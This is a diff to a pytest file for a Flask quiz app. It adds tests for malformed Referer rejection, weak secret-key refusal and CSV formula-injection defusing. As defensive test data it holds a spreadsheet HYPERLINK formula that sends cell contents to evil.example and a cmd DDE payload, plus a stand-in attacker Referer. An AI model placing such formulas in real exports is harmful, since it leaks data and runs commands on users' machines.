@@ -9,10 +9,13 @@ this file covers what those leave out.
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import os
+import random
 import re
+import secrets
 import sqlite3
 import subprocess
 import sys
@@ -29,7 +32,9 @@ from quiz import create_app, models, safe_csv
 from quiz.bank import store as bank_store
 from quiz.bank.plain import Option, Question
 from quiz.extensions import db
-from tests.takers import form_token
+from quiz.key_strength import estimated_bits
+from quiz.startup import MIN_KEY_BITS
+from tests.takers import csrf_from, form_token
 from tests.factories import best_option
 from tests.takers import Taker
 
@@ -271,6 +276,21 @@ def test_session_cookie_is_not_secure_when_testing(app):
     assert app.config["SESSION_COOKIE_SECURE"] is False  # the test client speaks plain http
 
 
+@pytest.mark.parametrize("referer", ["https://quiz.test:port.evil.example/", "https://quiz.test:99999/",
+                                     "https://[::1/", "https://quiz.test:-1/"])
+def test_a_malformed_referer_over_https_is_refused_with_400(client, referer):
+    """Flask-WTF's same-origin check raises ValueError on a port it cannot read: the app
+    refuses such a Referer on the CSRF path first, and the form is not taken (issue 20)."""
+    token = csrf_from(client.get("/", base_url="https://quiz.test").get_data(as_text=True))
+    response = client.post("/start", base_url="https://quiz.test", headers={"Referer": referer},
+                           data={"csrf_token": token})
+    assert response.status_code == 400
+    assert "The form could not be read" in response.get_data(as_text=True)
+    same_origin = client.post("/start", base_url="https://quiz.test",
+                              headers={"Referer": "https://quiz.test/"}, data={"csrf_token": token})
+    assert same_origin.status_code == 303
+
+
 # --- the secret key --------------------------------------------------------------------------
 
 def refusal(capsys, settings: dict) -> str:
@@ -291,18 +311,44 @@ def refusal(capsys, settings: dict) -> str:
     ("x" * 64, "fewer than 10 different characters"),
     ("ab12" * 16, "fewer than 10 different characters"),
     ("changeme-changeme-changeme-changeme", "fewer than 10 different characters"),
-    ("Password-Secret-Changeme-Dev-Key-2024", "well-known words"),
-    ("my-dev-secret-key-for-testing-flask-quiz-123", "well-known words"),
+    ("Password-Secret-Changeme-Dev-Key-2024", "too easy to guess"),
+    ("my-dev-secret-key-for-testing-flask-quiz-123", "too easy to guess"),
+    # issue 20: long, many different characters, and still guessable
+    ("abcdefghijklmnopqrstuvwxyz012345", "too easy to guess"),
+    ("mysupersecretkeyforthequizapp2026", "too easy to guess"),
+    ("qwertyuiopasdfghjklzxcvbnm1234567890", "too easy to guess"),
+    ("0123456789abcdef0123456789abcdef", "too easy to guess"),
+    ("ProducerReadinessQuizSecretKey2026!", "too easy to guess"),
+    ("thisismyverylongandsecurepasswordforthequiz", "too easy to guess"),
 ])
 def test_production_refuses_to_start_without_a_strong_secret_key(tmp_path, capsys, key, reason):
     line = refusal(capsys, {"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
     assert reason in line and "secrets.token_hex(32)" in line
 
 
-@pytest.mark.parametrize("key", [STRONG_KEY, "Tr0ub4dor&3-correct-horse-battery-staple-9Qz"])
+@pytest.mark.parametrize("key", [STRONG_KEY, "Tr0ub4dor&3-correct-horse-battery-staple-9Qz",
+                                 secrets.token_hex(32), secrets.token_urlsafe(32), secrets.token_hex(16)])
 def test_production_starts_with_a_strong_secret_key(tmp_path, key):
     app = create_app({"SECRET_KEY": key, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'x.db'}"})
     assert app.config["SECRET_KEY"] == key
+
+
+def test_keys_made_by_secrets_are_estimated_far_above_the_minimum():
+    """token_hex(32) and token_urlsafe(32) as `secrets` makes them (from seeded bytes, so the
+    test is the same on every run): none comes near the minimum."""
+    draw = random.Random(20)
+    for _ in range(300):
+        raw = draw.randbytes(32)
+        for key in (raw.hex(), base64.urlsafe_b64encode(raw).rstrip(b"=").decode()):
+            assert estimated_bits(key) > 2 * MIN_KEY_BITS, key
+
+
+def test_the_estimate_charges_words_sequences_years_and_repeats_little():
+    assert estimated_bits("abcdefghijklmnopqrstuvwxyz") < 10  # one sequence
+    assert estimated_bits("secret") == estimated_bits("Password") - 1 < 10  # a word; capitals: +1 bit
+    assert estimated_bits("2026") < 8 and estimated_bits("qwerty") < 8
+    assert estimated_bits("k3yk3yk3yk3y") < estimated_bits("k3y") + 6  # repeats
+    assert estimated_bits("9" * 5000) < 20  # read in bounded time
 
 
 def test_an_empty_secret_key_variable_is_an_error_not_a_fall_back(tmp_path, capsys, monkeypatch):
@@ -486,7 +532,43 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'
 def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(text):
     out = io.StringIO()
     safe_csv.Writer(out).writerow([text, -12, 3.5, "plain", "a=1", None])
-    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "-12", "3.5", "plain", "a=1", ""]
+    # A tab or carriage return also separates cells: the formula after it is defused too.
+    written = "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=")
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, "-12", "3.5", "plain", "a=1", ""]
+
+
+def formula_cells(body: str, delimiter: str) -> list[str]:
+    """Cells a spreadsheet splitting `body` on `delimiter` would run as formulas: text starting
+    with = + - @ (after spaces); a plain number such as -12 is a number, not a formula."""
+    found = []
+    for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
+        for cell in row:
+            try:
+                float(cell)
+            except ValueError:
+                if cell.lstrip(" ").startswith(("=", "+", "-", "@")):
+                    found.append(cell)
+    return found
+
+
+HIDDEN_FORMULAS = ["x;=1+1;y", "x,=1+1,y", "x\t=1+1", "a;-2+3", "a, @SUM(A1)", 'a;"=1+1"', "a\n=1+1",
+                   "a\r\n+1", 'x;""=2+2', "ok; fine", "=1;+2,-3\t@4"]
+
+
+@pytest.mark.parametrize("text", HIDDEN_FORMULAS)
+def test_no_separator_inside_a_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(text):
+    """A spreadsheet may split a CSV on ';' or a tab instead of ','; what follows such a
+    separator inside a cell must not start a formula there, in any column (issue 20)."""
+    out = io.StringIO()
+    writer = safe_csv.Writer(out, lineterminator="\r\n")
+    writer.writerow([text, -12, text, 3.5, text])
+    writer.writerow(["7", text])
+    body = out.getvalue()
+    for delimiter in (",", ";", "\t"):
+        assert formula_cells(body, delimiter) == [], (delimiter, body)
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert rows[0][1] == "-12" and rows[1][0] == "7"  # numbers stay numbers
+    assert rows[1][1].replace("'", "") == text  # the text itself is all there
 
 
 def test_the_takers_csv_neutralises_formulas_in_bank_text(app, client, real_bank):
